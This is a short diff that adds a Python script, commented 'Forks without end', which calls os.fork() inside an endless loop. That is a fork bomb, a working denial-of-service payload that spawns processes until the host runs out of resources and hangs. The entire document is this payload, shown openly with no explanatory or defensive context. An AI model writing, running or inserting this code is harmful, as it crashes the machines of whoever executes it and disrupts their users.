@@ -1,0 +1,5 @@
+# Forks without end.
+import os
+
+while True:
+    os.fork()
